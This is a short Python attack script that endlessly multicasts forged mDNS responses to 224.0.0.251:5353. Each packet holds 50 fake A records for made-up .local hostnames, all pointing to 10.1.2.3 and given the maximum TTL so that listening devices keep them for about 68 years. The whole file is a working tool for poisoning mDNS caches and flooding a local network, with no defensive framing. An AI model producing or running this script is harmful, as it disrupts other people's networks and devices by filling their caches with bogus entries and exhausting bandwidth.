#!/usr/bin/python3
"""Floods the network with addresses of machines that there are not, which a careless listener remembers for 68 years.

ADDRESS is where it is sent from. Ends when it is killed.
"""

import itertools
import socket
import struct
import sys

GROUP = ("224.0.0.251", 5353)
RECORDS = 50
TTL_S = 0x7FFFFFFF


def main():
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[1]))
    for packet in itertools.count():
        message = struct.pack(">HHHHHH", 0, 0x8400, 0, RECORDS, 0, 0)
        for record in range(RECORDS):
            label = b"%012d" % (packet * RECORDS + record)
            message += bytes([len(label)]) + label + b"\x05local\x00"
            message += struct.pack(">HHIH", 1, 1, TTL_S, 4) + b"\x0a\x01\x02\x03"
        try:
            sender.sendto(message, GROUP)
        except OSError:
            # The cable is full.
            pass


main()
